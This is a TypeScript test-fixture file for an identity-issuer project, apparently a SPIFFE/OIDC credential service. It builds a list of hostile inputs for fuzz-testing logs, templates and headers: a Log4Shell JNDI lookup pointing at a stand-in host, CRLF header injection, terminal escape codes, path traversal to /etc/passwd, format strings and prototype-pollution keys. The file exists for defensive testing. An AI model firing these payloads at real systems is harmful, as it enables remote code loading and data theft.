import { AUDIENCE } from "../issuer/world.ts";

const files = {
  ...import.meta.glob("../../../../shared/vectors/third-party/naughty-strings/blns.json", {
    query: "?raw",
    import: "default",
    eager: true,
  }),
  ...import.meta.glob("../../../../shared/vectors/third-party/spiffe/spiffe-id-cases.json", {
    query: "?raw",
    import: "default",
    eager: true,
  }),
} as Record<string, string>;
const vector = (name: string): string | undefined =>
  Object.entries(files).find(([path]) => path.endsWith(name))?.[1];
export const blns = vector("blns.json");
export const ids = vector("spiffe-id-cases.json");

/** What every log, template and header has met before; the suite of naughty strings adds 500 more. */
export const NAUGHTY: readonly string[] = [
  "a\r\nInjected: yes",
  '"}\n{"event":"intent"}',
  "\u001b[2J\u001b]0;owned\u0007",
  "\u2028\u2029\u0085",
  "\u202etxt.exe",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "%s%n%x",
  "../../../../etc/passwd",
  "..%2f..%2f",
  "a\u0000b",
  "\ud83d\ude00",
  "İ",
  "ﬁ",
  "．．",
  "ａｄｍｉｎ",
  "__proto__",
  "constructor",
  " ",
  "-",
  "_",
  ".",
  "..",
  "...",
  "x".repeat(2048),
  ...(blns === undefined ? [] : (JSON.parse(blns) as string[])),
];

/** Two templates in which a claim stands, after a constant and before one. */
export const RULES = [
  { path: "/cron/{oidc.cron.job}", entry: "cron" },
  { path: "/{oidc.ci.job}/x/y", entry: "ci" },
].map(({ path, entry }) => ({
  name: entry,
  evidence: { [`oidc.${entry}`]: {} },
  binding: { [`oidc.${entry}`]: "audience" },
  spiffe_id: path,
  jwt: { ttl: "5m", audiences: [AUDIENCE] },
  x509: { ttl: "1h" },
}));

/** All of them on Node; on workerd, where the same code runs in another engine, each third. */
export function sampled<T>(list: readonly T[]): readonly T[] {
  const workerd = globalThis.navigator?.userAgent === "Cloudflare-Workers";
  return workerd ? list.filter((_, index) => index % 3 === 0) : list;
}
